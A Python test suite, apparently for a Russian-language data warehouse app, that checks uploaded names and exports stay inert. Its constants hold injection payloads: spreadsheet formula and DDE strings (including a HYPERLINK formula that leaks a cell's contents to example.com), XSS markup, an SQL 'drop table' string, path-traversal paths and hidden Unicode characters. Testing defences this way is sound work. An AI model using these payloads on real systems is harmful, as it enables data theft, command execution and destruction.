"""Hostile names (formulas, markup, SQL, paths, invisible letters) stay text everywhere."""

import csv
import dataclasses
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import openpyxl
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from checks.catalogue import contracts, headers, required
from checks.findings import Finding
from checks.text import file_name, fold, squeeze, without_formula
from etl import marked, reader
from etl.commands import export
from etl.intake.load import load, load_folder, rehearse
from etl.intake.prepare import Incoming
from tests import screens
from tests.conftest import copy_of
from tests.etl.test_marked_office import converted
from tests.examples.files import csv_file, options, write_folder, xlsx_file
from tests.examples.rows import REGISTERS, VALID, Row, another
from view.documents import pdf
from view.documents.appendix import appendix
from view.documents.archive import archive
from view.documents.source import DocumentSource, document_source
from view.parts.downloads import csv_bytes, xlsx_bytes
from view.passport.names import Part
from view.passport.sections import Figure, Section, State
from view.passport.tables import Table
from view.passport.workbook import workbook
from view.wording.labels import plain
from warehouse.access.rights import Actor
from warehouse.changes.connection import writer
from warehouse.ledger.batches import current_frame
from warehouse.marts.mart import open_mart
from warehouse.store.address import Address

ADMIN = Actor("Проверка", "admin")
FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1,"Школа № 1")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u00a0=1+1",
    "\uff1d1+1",
)
# What a spreadsheet makes a cell of its own when it splits texts at delimiters that the file does not mean.
INSIDE = ("Школа,=1+1", "Школа; +1+1", "Школа\t-1+1", "Школа,\t@SUM(1)", "Школа,\t=1+1", "Школа,,\u00a0=1+1")
MARKUP = (
    "<script>alert(1)</script>",
    '<img src="http://example.com/x" onerror="alert(1)">',
    "\"><svg onload='alert(1)'>",
    "[ссылка](javascript:alert(1)) ![вид](http://example.com/x)",
    ":red[красное] **жирное** $x$",
    "&lt;b&gt;",
)
SQL = ("'; drop table facts.organizations; --", '"; select 1; --', "%s {name} $1 ?", "\\'")
PATHS = ("../../etc/passwd", "C:\\Windows\\win.ini", "a/b", ".скрытый", "CON.", "x" * 300)
UNSEEN = "а\u202eб\u2066в\u200bг\x00д\ufeffе"
NAMES = (*FORMULAS, *MARKUP, *SQL, *PATHS[:3])


def test_a_text_that_could_be_a_formula_begins_with_an_apostrophe() -> None:
    whole = [text for text in FORMULAS if not text.startswith("\t")]
    assert all(without_formula(text) == f"'{text}" for text in whole)
    assert without_formula("\t=1+1") == "'\t'=1+1"
    assert all(without_formula(text) == text for text in (*MARKUP, "Школа № 1", "1 = 1", "", "а-б", "а, б; в=г"))


@pytest.mark.parametrize("text", INSIDE)
def test_nothing_behind_a_delimiter_could_be_a_formula(text: str, tmp_path: Path) -> None:
    frame = pl.DataFrame({"Название": [text]})
    export.write(frame, tmp_path / "e.csv")
    for content in (without_formula(text), csv_bytes(frame).decode(), (tmp_path / "e.csv").read_text()):
        cells = [cell.strip(' \u00a0\n\r"') for cell in re.split("[,;\t\n]", content)]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], content


def test_what_nobody_sees_is_left_out_of_cells_headers_and_comparisons() -> None:
    assert squeeze(UNSEEN) == "абвгде"
    assert fold("Школа\u200b № \u202e1") == fold("школа № 1")
    spoilt = csv_file("organizations", [VALID["organizations"] | {"organization_id": "OR\u200bG-\u202e1"}])
    table = reader.read(spoilt.replace("Код".encode(), "К\u200bод".encode()), "ф", headers(), required())
    assert table.dataset == "organizations"


def test_names_of_files_lead_nowhere() -> None:
    for text in (*PATHS, UNSEEN, "", "...", "a.b/c.docx"):
        name = file_name(text)
        assert 0 < len(name) <= 201
        assert not re.search(r'[\\/:*?"<>|\x00-\x1f\u202e]', name)
        assert not name.startswith(".") and not name.endswith(".")
    assert file_name("Письмо_Лужский_2025-2.docx") == "Письмо_Лужский_2025-2.docx"


def test_labels_are_shown_as_they_stand() -> None:
    for text in MARKUP:
        assert not re.search(r"(?<!\\)[<\[*$]|(?<!\\):\w", plain(text))
    assert plain("«Код»: нет значения — 3 раза") == "«Код»: нет значения — 3 раза"


def _named(dataset: str, column: str) -> list[Row]:
    return [another(dataset, number) | {column: name} for number, name in enumerate(NAMES, start=20)]


@pytest.fixture(scope="module")
def named(registers: Address, tmp_path_factory: pytest.TempPathFactory) -> Address:
    """A warehouse whose organizations, programmes, events and measures have such names."""
    folder = tmp_path_factory.mktemp("names")
    address = copy_of(registers, folder / "warehouse")
    tables = {
        "organizations": _named("organizations", "name"),
        "programs": _named("programs", "title"),
        "events": _named("events", "title"),
        "roadmap": [row | {"responsible": name} for row, name in zip(_named("roadmap", "title"), NAMES, strict=True)],
        "passport_resources": _named("passport_resources", "name"),
        "registry": _named("registry", "title"),
        "passport_finance": _named("passport_finance", "article"),
    }
    results = load_folder(address, write_folder(folder / "files", tables), options(publish=True, confirm="да"))
    assert {result.status for result in results} == {"loaded"}, results
    return address


def test_names_are_kept_as_written_and_nothing_else_happens(named: Address) -> None:
    with writer(named, "проверка", None, finish=False) as connection:
        kept = current_frame(connection, contracts()["organizations"])["name"].to_list()
    assert {squeeze(name) for name in NAMES} <= set(kept)
    assert len(kept) == len(NAMES) + len(REGISTERS["organizations"])


def _texts_of_markup(test: AppTest) -> str:
    return "\n".join(element.proto.body for element in (*test.get("html"), *test.get("markdown")))


@pytest.mark.parametrize("page", ["overview", "municipality", "passport", "roadmap", "deficits", "quality", "rounds"])
def test_pages_show_names_as_words(named: Address, monkeypatch: pytest.MonkeyPatch, page: str) -> None:
    screens.look_at(monkeypatch, named)
    screens.sign_in(monkeypatch, ADMIN)
    test = screens.opened(page, {"year": "2025", "half": "1"})
    assert not test.exception
    drawn = _texts_of_markup(test)
    assert not re.search(r"<script>alert|<img src=\"http://example|<svg onload|<b>&gt;", drawn)
    assert "\u202e" not in drawn


def _tables() -> dict[str, bytes]:
    """Every kind of file with names made to harm in every place that people can fill."""
    texts = (*FORMULAS, *INSIDE)
    frame = pl.DataFrame({"=Заголовок()": texts, "Название": texts, "Число": [-1.5] * len(texts)})
    rows = [another("organizations", n) | {"name": name} for n, name in enumerate(FORMULAS)]
    about = [(name, name) for name in FORMULAS]
    state = State(Part(FORMULAS[4], FORMULAS[0], "", ""), 1, 2, ", ".join(FORMULAS))
    figure = Figure(FORMULAS[3], 1.0, 2.0, FORMULAS[0], 1, True)
    section = Section("staff", FORMULAS[0], 50.0, (state,), (figure,), (Table(FORMULAS[1], frame),))
    made = {
        "download.csv": csv_bytes(frame),
        "download.xlsx": xlsx_bytes(frame, FORMULAS[0], about),
        "passport.xlsx": workbook([section], FORMULAS[2], about, {"staff": FORMULAS[3]}),
    }
    for ending, content in (("csv", csv_file("organizations", rows)), ("xlsx", xlsx_file("organizations", [rows[0]]))):
        table = reader.read(content, "ф", headers(), required(), "organizations")
        findings = [
            Finding("error", "choice", row, "Тип организации", name, f"{name} — нет такого значения.")
            for row, name in enumerate(FORMULAS, start=2)
        ]
        made[f"marked_{ending}.xlsx"] = marked.mark(content, FORMULAS[0], table, "organizations", findings)
    return made


@pytest.fixture(scope="module")
def spoilt_source(demo_warehouse: Address) -> DocumentSource:
    """A half-year whose region and municipalities have such names."""
    source = document_source(open_mart(demo_warehouse), ADMIN, "41000000", 2025, 2)
    spoilt = (*FORMULAS, UNSEEN, "../../наверх", *MARKUP)
    places = tuple(
        {**place, "name": spoilt[number % len(spoilt)], "short_name": spoilt[number % 8]}
        for number, place in enumerate(source.municipalities)
    )
    return dataclasses.replace(source, municipalities=places, region={**source.region, "name": FORMULAS[0]})


def _spread(content: bytes) -> dict[tuple[str, str], tuple[str, object]]:
    """Return sheet and address → kind and value of every filled cell, formulas recognised."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        (page.title, cell.coordinate): (cell.data_type, cell.value)
        for page in book
        for row in page.iter_rows()
        for cell in row
        if cell.value is not None
    }


@pytest.mark.load
@pytest.mark.skipif(pdf.libreoffice() is None, reason="LibreOffice is not installed (make tools)")
def test_libreoffice_runs_no_formula_of_a_file_that_we_give(tmp_path: Path) -> None:
    for name, content in _tables().items():
        folder = tmp_path / name
        folder.mkdir()
        saved = _resaved(content, name, folder)
        formulas = {place: value for place, (kind, value) in _spread(saved).items() if kind == "f"}
        assert formulas == {}, name
        shown = {str(value) for _, value in _spread(saved).values()}
        assert any("=HYPERLINK" in text for text in shown), name
        assert any("cmd|" in text for text in shown) or "xlsx.xlsx" in name, name


def _resaved(content: bytes, name: str, folder: Path) -> bytes:
    """Return a table saved by LibreOffice as a workbook, formulas evaluated."""
    if name.endswith("xlsx"):
        return converted(content, "xlsx", folder)
    source = folder / name
    source.write_bytes(content)
    # Semicolons, commas, tabs as by default; quotes, UTF-8, from the first line, cells of any kind, formulas evaluated.
    reading = "CSV:59/44/9,34,76,1,,0,false,true,false,false,false,0,true"
    subprocess.run(
        [shutil.which("soffice") or "", "--headless", f"-env:UserInstallation=file://{folder}/profile",
         f"--infilter={reading}", "--convert-to", "xlsx", "--outdir", str(folder), str(source)],
        capture_output=True, timeout=180, check=True,
    )  # fmt: skip
    return source.with_suffix(".xlsx").read_bytes()


@pytest.mark.load
@pytest.mark.skipif(pdf.libreoffice() is None, reason="LibreOffice is not installed (make tools)")
def test_the_appendix_has_our_formulas_alone(spoilt_source: DocumentSource, tmp_path: Path) -> None:
    content = appendix(spoilt_source)
    honest = re.compile(r"=(?:IF|100)[\w(),.\d$\"<>=*/+\-!;& А-яё✓≈✕○–%]*")
    for version in (content, converted(content, "xlsx", tmp_path)):
        cells = _spread(version).values()
        formulas = [str(value) for kind, value in cells if kind == "f"]
        assert formulas and all(honest.fullmatch(formula) for formula in formulas)
        assert not any("HYPERLINK" in formula or "cmd" in formula for formula in formulas)
        assert any(kind in ("s", "inlineStr") and str(value).startswith("=HYPERLINK") for kind, value in cells)


def test_documents_have_our_fields_alone_and_no_folders(
    spoilt_source: DocumentSource, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pdf, "libreoffice", lambda: None)
    monkeypatch.setattr("view.documents.archive.report", lambda *_: b"")
    # The charts of a letter hold no name that people give.
    monkeypatch.setattr("view.documents.word.draw_pictures", lambda *_: None)
    with zipfile.ZipFile(io.BytesIO(archive(spoilt_source))) as file:
        names = file.namelist()
        assert len(set(names)) == len(names) == len(spoilt_source.municipalities) + 2
        for name in names:
            folder, _, own = name.rpartition("/")
            assert folder in ("", "Письма") and own == file_name(own)
        letters = [file.read(name) for name in names if name.startswith("Письма/")]
    assert len(letters) == len(spoilt_source.municipalities)
    for letter in letters:
        document = docx.Document(io.BytesIO(letter))
        xml = "".join(part.blob.decode("utf-8", "ignore") for part in document.part.package.iter_parts())
        fields = set(re.findall(r"<w:instrText[^>]*>\s*(\w+)|w:instr=\"\s*(\w+)", xml))
        assert {name for pair in fields for name in pair if name} <= {"PAGE", "NUMPAGES", "PAGEREF", "TOC", "HYPERLINK"}
        assert "http://example.com" not in re.sub(r"<(w:t|dc:title)[ >].*?</\1>", "", xml)


def test_an_export_runs_nothing(tmp_path: Path) -> None:
    frame = pl.DataFrame({"territory": FORMULAS, "value": [-1.5] * len(FORMULAS)})
    export.write(frame, tmp_path / "e.csv")
    with (tmp_path / "e.csv").open(encoding="utf-8-sig", newline="") as file:
        names = [row[0] for row in csv.reader(file, delimiter=";")]
    # A tab inside a text is a delimiter to some spreadsheets, so what follows it is defused as well.
    assert names == ["territory", *(f"'{name}".replace("\t=", "\t'=") for name in FORMULAS)]
    export.write(frame, tmp_path / "e.xlsx")
    kinds = {kind for kind, _ in _spread((tmp_path / "e.xlsx").read_bytes()).values()}
    assert kinds <= {"s", "n"}
    with zipfile.ZipFile(tmp_path / "e.xlsx") as archived:
        assert not any("hyperlink" in archived.read(name).decode("utf-8", "ignore") for name in archived.namelist())


def test_a_name_of_a_file_shows_no_more_than_it_is(registers: Address) -> None:
    incoming = Incoming("отчёт\u202excod.exe", csv_file("organizations", [VALID["organizations"]]))
    (name,) = load(registers, "organizations", [incoming], options(), rehearse).files
    assert name == "отчётxcod.exe"
